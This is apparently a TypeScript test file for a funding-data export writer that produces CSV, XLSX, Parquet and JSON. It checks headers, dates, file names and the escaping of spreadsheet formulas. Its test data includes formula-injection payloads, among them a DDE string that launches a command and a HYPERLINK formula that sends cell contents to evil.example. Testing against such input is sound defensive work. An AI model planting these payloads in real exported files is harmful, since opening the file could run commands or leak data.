/** The files of an export, read back by a CSV parser and a ZIP reader that did not write them. */
import { parse } from "csv-parse/sync";
import { parquetMetadata, parquetReadObjects } from "hyparquet";
import { describe, expect, it } from "vitest";
import { escapeFormula } from "./escape-formula";
import { type ExportPlan, fileName } from "./facts";
import type { ExportRow } from "./fields";
import { sheetCells, unzipped } from "./testing";
import { writeFile } from "./write";

const PLAN: ExportPlan = {
  format: "csv",
  feed: "funding",
  columns: undefined,
  factLines: false,
  facts: {
    feed: "Funding",
    request: "/v1/funding-events?round=seed",
    filters: [["round", "seed"]],
    rows: 2,
    matching: 1284,
    creditsInView: 60,
    credits: 0,
    exportedAt: "2026-11-21T10:00:00.000Z",
  },
};

const round = (over: Record<string, unknown> = {}): ExportRow => ({
  record: {
    id: "0190a0c0-0000-7000-8000-000000000001",
    round: "series-a",
    roundStated: true,
    amountUsdCents: 420_050,
    amountUsd: 4200.5,
    amountOriginalCurrency: "JPY",
    amountOriginalCents: 650_000,
    investors: [
      { id: "i1", name: "Fennick Capital" },
      { id: "i2", name: "Hollin Growth" },
    ],
    announcedAt: "2026-11-18T00:00:00.000Z",
    discoveredAt: "2026-11-18T06:12:30.000Z",
    company: {
      name: "Quorvane",
      verticals: ["ai", "fintech"],
      hqCountry: { code: "DE", name: "Germany" },
      domain: null,
    },
    ...over,
  },
  purchasedAt: "2026-11-20T10:29:00.000Z",
});

const text = async (file: Blob) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(await file.arrayBuffer());
const cells = async (plan: ExportPlan, rows: ExportRow[]): Promise<Record<string, string>[]> =>
  parse(await text(await writeFile(plan, rows)), { bom: true, columns: true, comment: plan.factLines ? "#" : "" });

/** People and companies may have such names, which a spreadsheet would take for something else. */
const NASTY = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  "+1+1",
  "+49 30 1234",
  "-2+3",
  "-",
  "@SUM(A1)",
  "@handle",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "x;=1+1",
  "x\t=1+1",
  "x\r\n=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠x",
  '"=1+1',
] as const;

describe("text that a spreadsheet would calculate", () => {
  it.each(NASTY)("%j begins no cell", async (name) => {
    const [row] = await cells(PLAN, [round({ company: { name } })]);
    const value = String(row?.Company);
    // Wherever a spreadsheet may split the line, what follows is no formula.
    for (const piece of value.split(/[;\t\r\n]/)) expect(piece.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/);
    expect(value).not.toMatch(/^[\t\r\n]/);
    expect(value.replaceAll("'", "")).toBe(name.replaceAll("'", ""));
  });

  it("is text in a workbook, letter for letter", async () => {
    const rows = NASTY.map((name) => round({ company: { name } }));
    const file = await writeFile({ ...PLAN, format: "xlsx", columns: ["company"] }, rows);
    const sheet = sheetCells(unzipped(new Uint8Array(await file.arrayBuffer())), 1);
    expect(sheet.slice(1).map(([name]) => name)).toEqual(NASTY.map((value) => ({ type: "s", value, formula: false })));
  });

  it("harmless text stays as it is", () => {
    for (const plain of ["Quorvane", "A-B", "x=1", "a@b.example", "", "100 %", "1;2", "Acme; Sons"])
      expect(escapeFormula(plain)).toBe(plain);
  });

  it("checks every entry of a list", async () => {
    const [row] = await cells(PLAN, [round({ investors: [{ name: "Ardholt" }, { name: "=1+1" }] })]);
    expect(row?.Investors).toBe("Ardholt; '=1+1");
  });

  it.each(["x,=1+1", "x; @SUM(A1)", 'x,"=1+1"', "x,＝1"])(
    "the filter %j begins no cell in the lines that describe the file",
    async (search) => {
      const plan = { ...PLAN, factLines: true, facts: { ...PLAN.facts, filters: [["search", search]] as const } };
      const line = (await text(await writeFile(plan, [round()]))).split("\r\n")[2] ?? "";
      for (const delimiter of [",", ";"])
        for (const cell of parse(line, { delimiter, relax_quotes: true }).flat())
          expect(cell.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/);
      expect(line.replaceAll("'", "")).toBe(`# Filter search: ${search}`);
    },
  );

  it("the heads are too: a host may name its fields as it likes", async () => {
    const written = await text(await writeFile(PLAN, [round({ "=1+1": "x" })]));
    expect(written).toContain(`"'=1+1"`);
  });
});

describe("CSV", () => {
  it("starts with a byte order mark, ends lines with CR LF, and has no extra lines by default", async () => {
    const written = await text(await writeFile(PLAN, [round(), round()]));
    expect(written.startsWith('\ufeff"Id","Round"')).toBe(true);
    expect(written.split("\r\n")).toHaveLength(4);
    expect(written).not.toContain("#");
  });

  it("has every field under a readable head, amounts as numbers, dates as a spreadsheet reads them", async () => {
    const written = await text(await writeFile(PLAN, [round()]));
    const [row] = await cells(PLAN, [round()]);
    expect(row).toMatchObject({
      "Amount USD": "4200.5",
      "Amount original": "650000",
      "Amount original currency": "JPY",
      "Announced at": "2026-11-18",
      "Discovered at": "2026-11-18 06:12:30",
      "Company HQ country code": "DE",
      "Company HQ country": "Germany",
      "Company verticals": "ai; fintech",
      "Company domain": "",
      Company: "Quorvane",
      Investors: "Fennick Capital; Hollin Growth",
      "Round stated": "true",
      "Owned as of": "2026-11-20 10:29:00",
    });
    expect(written).toContain(",4200.5,");
  });

  it("has no column for an empty list of named investors, nor for a company that is not known", async () => {
    const mixed = await cells(PLAN, [round({ investors: [], company: null }), round()]);
    const [full] = await cells(PLAN, [round()]);
    expect(Object.keys(mixed[0] ?? {}).sort()).toEqual(Object.keys(full ?? {}).sort());
    expect(mixed[0]).toMatchObject({ Investors: "", Company: "" });
    const [alone] = await cells(PLAN, [round({ investors: [] })]);
    expect(alone).toHaveProperty("Investors", "");
  });

  it("has the day of a date column, also where the time is known", async () => {
    const plan = { ...PLAN, columns: ["announced"] };
    expect(await cells(plan, [round({ announcedAt: "2026-10-14T06:14:56.000Z" })])).toEqual([
      { Announced: "2026-10-14" },
    ]);
  });

  it("has as much of a date as is known", async () => {
    const rows = ["2019-05", "2024-Q3", "2019"].map((announcedAt) => round({ announcedAt }));
    const found = await cells({ ...PLAN, columns: ["announced"] }, rows);
    expect(found.map(({ Announced }) => Announced)).toEqual(["2019-05", "2024-Q3", "2019"]);
  });

  it("a negative number stays a number", async () => {
    expect(await text(await writeFile(PLAN, [round({ amountUsd: -5 })]))).toContain(",-5,");
  });

  it("has the columns of the table in their order, with the displayed texts", async () => {
    const columns = ["amount", "round", "company", "vertical", "announced", "tick"];
    const [row] = await cells({ ...PLAN, columns }, [
      round({ amountOriginalCents: 650_000, amountOriginalCurrency: "EUR" }),
    ]);
    expect(Object.entries(row ?? {})).toEqual([
      ["Amount USD", "4200.5"],
      ["Amount original", "6500"],
      ["Currency", "EUR"],
      ["Round", "Series A"],
      ["Company", "Quorvane"],
      ["Domain", ""],
      ["Verticals", "AI; Fintech"],
      ["Announced", "2026-11-18"],
    ]);
  });

  it("describes itself in its first lines when requested", async () => {
    const filters = [...PLAN.facts.filters, ["countries", "DE"], ["countries", "GB"]] as const;
    const plan = { ...PLAN, factLines: true, facts: { ...PLAN.facts, filters } };
    const written = await text(await writeFile(plan, [round()]));
    expect(written.slice(1).split("\r\n").slice(0, 9)).toEqual([
      "# Feed: Funding",
      "# Request: /v1/funding-events?round=seed",
      "# Filter round: seed",
      "# Filter countries: DE; GB",
      "# Rows: 2",
      "# Matching: 1284",
      "# Credits in this view: 60",
      "# Credits for this export: 0",
      "# Exported at: 2026-11-21 10:00:00",
    ]);
    expect(await cells(plan, [round()])).toHaveLength(1);
  });
});

describe("a workbook", () => {
  it("types its cells and describes the export on a second sheet", async () => {
    const columns = ["amount", "company", "announced", "stated"];
    const file = await writeFile({ ...PLAN, format: "xlsx", columns }, [round({ roundStated: false })]);
    const files = unzipped(new Uint8Array(await file.arrayBuffer()));
    const [heads, row] = sheetCells(files, 1);
    expect(heads?.map(({ value }) => value)).toEqual([
      "Amount USD",
      "Amount original",
      "Currency",
      "Company",
      "Domain",
      "Announced",
      "Stated",
    ]);
    // 46,344 days after the last day of 1899 is 18 November 2026.
    expect(row?.map(({ type, value }) => [type, value])).toEqual([
      ["n", "4200.5"],
      ["n", "650000"],
      ["s", "JPY"],
      ["s", "Quorvane"],
      ["n", "46344"],
      ["b", "0"],
    ]);
    const about = sheetCells(files, 2).map((cellsOfRow) => cellsOfRow.map(({ value }) => value));
    expect(about).toContainEqual(["Filter round", "seed"]);
    expect(about).toContainEqual(["Rows", "2"]);
    expect(about).toContainEqual(["Credits in this view", "60"]);
  });

  it("has dates that show only as much as is known", async () => {
    const rows = ["2019-05", "2024-Q3", "2019", "2024-07-01"].map((announcedAt) => round({ announcedAt }));
    const file = await writeFile({ ...PLAN, format: "xlsx", columns: ["announced"] }, rows);
    const files = unzipped(new Uint8Array(await file.arrayBuffer()));
    // The first day of each period, counted from the end of 1899.
    expect(sheetCells(files, 1).slice(1)).toEqual(
      ["43586", "45474", "43466", "45474"].map((value) => [{ type: "n", value, formula: false }]),
    );
    const formats = [...(files.get("xl/styles.xml") ?? "").matchAll(/formatCode="([^"]*)"/g)].map(
      ([, format]) => format,
    );
    expect(formats.slice(0, 4)).toEqual(["mmm yyyy", "&quot;Q3&quot; yyyy", "yyyy", "yyyy-mm-dd"]);
  });

  it("filters by its heads, and groups the digits of amounts", async () => {
    const file = await writeFile({ ...PLAN, format: "xlsx", columns: ["amount", "founded"] }, [round(), round()]);
    const files = unzipped(new Uint8Array(await file.arrayBuffer()));
    expect(files.get("xl/worksheets/sheet1.xml")).toMatch(/<\/sheetData><autoFilter ref="A1:D3"\/><\/worksheet>$/);
    expect(files.get("xl/worksheets/sheet2.xml")).not.toContain("autoFilter");
    expect(files.get("xl/workbook.xml")).toContain(`hidden="1">'Funding'!$A$1:$D$3</definedName>`);
    expect(files.get("xl/styles.xml")).toContain('formatCode="#,##0"');
  });

  it("truncates a text that is too long for a cell", async () => {
    const file = await writeFile({ ...PLAN, format: "xlsx", columns: ["company"] }, [
      round({ company: { name: "x".repeat(40_000) } }),
    ]);
    const [, row] = sheetCells(unzipped(new Uint8Array(await file.arrayBuffer())), 1);
    expect(row?.[0]?.value).toHaveLength(32_767);
  });
});

describe("Parquet", () => {
  const written = async (columns: readonly string[] | undefined, rows: ExportRow[]) =>
    (await writeFile({ ...PLAN, format: "parquet", columns }, rows)).arrayBuffer();

  it("has typed columns, and describes the export in its metadata", async () => {
    const columns = ["amount", "company", "announced", "stated"];
    const file = await written(columns, [round(), round({ amountUsd: null, announcedAt: null, roundStated: false })]);
    expect(await parquetReadObjects({ file })).toEqual([
      {
        "Amount USD": 4200.5,
        "Amount original": 650_000,
        Currency: "JPY",
        Company: "Quorvane",
        Domain: null,
        Announced: new Date("2026-11-18"),
        Stated: true,
      },
      expect.objectContaining({ "Amount USD": null, Announced: null, Stated: false }),
    ]);
    const { schema, key_value_metadata: pairs } = parquetMetadata(file);
    expect(schema.find(({ name }) => name === "Announced")).toMatchObject({ converted_type: "DATE" });
    expect(pairs).toContainEqual({ key: "Filter round", value: "seed" });
    expect(pairs).toContainEqual({ key: "Credits for this export", value: "0" });
  });

  it("keeps a column of days where only a month, a quarter or a year is known: its first day", async () => {
    const rows = ["2024-07-05", "2019-05", "2024-Q3", "2019"].map((announcedAt) => round({ announcedAt }));
    const file = await written(["announced"], rows);
    expect((await parquetReadObjects({ file })).map(({ Announced }) => Announced)).toEqual(
      ["2024-07-05", "2019-05-01", "2024-07-01", "2019-01-01"].map((day) => new Date(day)),
    );
    expect(parquetMetadata(file).schema.at(-1)).toMatchObject({ converted_type: "DATE" });
  });

  it("keeps the time of a timestamp, in every row", async () => {
    const file = await written(
      undefined,
      Array.from({ length: 2_500 }, (_, index) => round({ id: `id-${index}` })),
    );
    const rows = await parquetReadObjects({ file });
    expect(rows).toHaveLength(2_500);
    expect(rows.at(-1)).toMatchObject({ Id: "id-2499", "Discovered at": new Date("2026-11-18T06:12:30.000Z") });
  });

  it("has its columns also without rows", async () => {
    const file = await written(["company"], []);
    expect(await parquetReadObjects({ file })).toEqual([]);
    expect(parquetMetadata(file).schema.map(({ name }) => name)).toEqual(["root", "Company", "Domain"]);
  });
});

describe("JSON", () => {
  it("contains the records as returned by the API, and describes them in `meta`", async () => {
    const filters = [...PLAN.facts.filters, ["countries", "DE"], ["countries", "GB"]] as const;
    const plan: ExportPlan = { ...PLAN, format: "json", facts: { ...PLAN.facts, filters } };
    const read: unknown = JSON.parse(await text(await writeFile(plan, [round(), round()])));
    expect(read).toMatchObject({
      meta: {
        Feed: "Funding",
        Rows: 2,
        "Filter round": ["seed"],
        "Filter countries": ["DE", "GB"],
        "Credits for this export": 0,
      },
      data: [{ ...Object(round().record), ownedAsOf: round().purchasedAt }, {}],
    });
  });

  it("of no rows is JSON too", async () => {
    expect(JSON.parse(await text(await writeFile({ ...PLAN, format: "json" }, [])))).toMatchObject({ data: [] });
  });
});

it("names the file by feed, filters, day and rows", () => {
  expect(fileName(PLAN)).toBe("dealflow-funding-round-seed-2026-11-21-2-rows.csv");
  expect(fileName({ ...PLAN, facts: { ...PLAN.facts, filters: [["search", "../../x".repeat(30)]] } })).toMatch(
    /^dealflow-funding-search-[x-]{1,60}-2026-11-21-2-rows\.csv$/,
  );
  const amounts = [
    ["minAmountUsd", "5000000"],
    ["maxAmountUsd", "1200000000"],
    ["since", "2025-01-01"],
  ] as const;
  expect(fileName({ ...PLAN, facts: { ...PLAN.facts, filters: amounts } })).toBe(
    "dealflow-funding-amount-from-5m-amount-to-1.2bn-announced-from-2025-01-01-2026-11-21-2-rows.csv",
  );
  const flags = [["enrichedOnly", "true"]] as const;
  expect(fileName({ ...PLAN, facts: { ...PLAN.facts, filters: flags } })).toContain("-funding-resolved-2026-");
  const filters = Array.from({ length: 40 }, (_, index) => ["industryGroups", `Industry ${index}`] as const);
  const long = fileName({ ...PLAN, facts: { ...PLAN.facts, filters } });
  expect(long).toMatch(/-funding-industry-industry-0-industry-1-.*-and-\d+-more-2026-11-21-2-rows\.csv$/);
  expect(long.length).toBeLessThanOrEqual(255);
});
